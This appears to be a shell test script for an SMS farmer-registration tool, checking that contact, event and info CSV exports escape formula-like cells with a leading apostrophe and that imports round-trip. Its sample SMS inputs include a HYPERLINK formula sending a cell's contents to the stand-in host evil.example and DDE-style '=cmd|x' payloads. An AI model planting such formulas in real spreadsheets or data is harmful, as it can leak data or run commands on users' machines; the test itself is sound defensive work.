#!/bin/sh
# Exports a spreadsheet would run as formulas: text that came by SMS or
# the CLI and starts with = + - @, tab or CR is written with a leading '
# (the OWASP rule) in contact, event and info exports; phone numbers are
# written "+62 812-3456-7890" (text to a spreadsheet, not a number, not a
# formula) and import back; import keeps " =x" from turning into =x.
. "$(dirname "$0")/lib.sh"

write_conf "$(dummy_modem demo)"
kt() { "$KT" -c "$T/kt.conf" "$@"; }
say() { kt phone "$1" "$2"; }

kt event create TANI24 "Pelatihan pupuk" --quota 10 >/dev/null
kt info set CUACA '=1+1' >/dev/null
kt info set PUPUK '- Urea 2x per musim' >/dev/null
kt contact add 081234500009 --name '-2+3' --village '@desa' >/dev/null
kt contact add 081234500010 --name '+1-2' --village '+62 812' >/dev/null
check "daemon starts" start_daemon
check "dummy modem comes up" wait_for 20 modem_up demo
say 081234500001 'DAFTAR =HYPERLINK("http://evil.example/?d="&B2,"Klik") #Desa' >/dev/null
say 081234500002 'DAFTAR TANI24 @SUM(1+1)*cmd' >/dev/null
check "the SMS names are stored as sent" test "$(sql "SELECT count(*) FROM contacts WHERE name LIKE '=HYPERLINK(%'")" = 1
check "SIGTERM stops cleanly" stop_daemon

kt contact export "$T/c.csv" 2>/dev/null
check "contact export: the formula name gets a leading '" grep -q "^+62 812-3450-0001,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Klik\"\")\",Desa," "$T/c.csv"
check "contact export: '-2+3' and '@desa' too" grep -q "^+62 812-3450-0009,'-2+3,'@desa," "$T/c.csv"
check "contact export: '+1-2' and '+62 812' are sums, not numbers: a leading '" grep -q "^+62 812-3450-0010,'+1-2,'+62 812," "$T/c.csv"
check "contact export: no cell starts a formula" sh -c "! grep -Eq '(^|,)[=+@-][^0-9 ]' '$T/c.csv'"
kt event export TANI24 "$T/e.csv" 2>/dev/null
check "event export: the SMS name gets a leading '" grep -q "^TANI24,confirmed,+62 812-3450-0002,'@SUM(1+1)\*cmd," "$T/e.csv"
kt info export "$T/i.csv" 2>/dev/null
check "info export: '=1+1' gets a leading '" grep -q "^CUACA,id,'=1+1$" "$T/i.csv"
check "info export: a text starting '- ' too" grep -q "^PUPUK,id,'- Urea 2x per musim$" "$T/i.csv"

# The grouped numbers import back as the same contacts.
sed "s|$T/kt.db|$T/kt2.db|" "$T/kt.conf" > "$T/kt2.conf"
"$KT" -c "$T/kt2.conf" contact import "$T/c.csv" >/dev/null 2>&1
check "grouped phone numbers import back" test "$(sqlite3 "$T/kt2.db" "SELECT group_concat(phone, ' ') FROM (SELECT phone FROM contacts ORDER BY phone)")" = "+6281234500001 +6281234500002 +6281234500009 +6281234500010"
check "and the ' comes off: the round trip is exact" test "$("$KT" -c "$T/kt2.conf" contact export | sort)" = "$(kt contact export | sort)"

# Import keeps the space that keeps a cell from being a formula.
printf 'phone,name,village\n081234500011," =cmd|x","  @desa"\n081234500012,Budi  , Desa\n' > "$T/sp.csv"
kt contact import "$T/sp.csv" >/dev/null 2>&1
check "import: ' =cmd|x' stays ' =cmd|x'" test "$(sql "SELECT name || '/' || village FROM contacts WHERE phone = '+6281234500011'")" = " =cmd|x/ @desa"
check "import: other cells are still trimmed" test "$(sql "SELECT name || '/' || village FROM contacts WHERE phone = '+6281234500012'")" = "Budi/Desa"
kt contact export "$T/sp2.csv" 2>/dev/null
check "and export writes it quoted with its space" grep -q '^+62 812-3450-0011," =cmd|x"," @desa",' "$T/sp2.csv"
finish
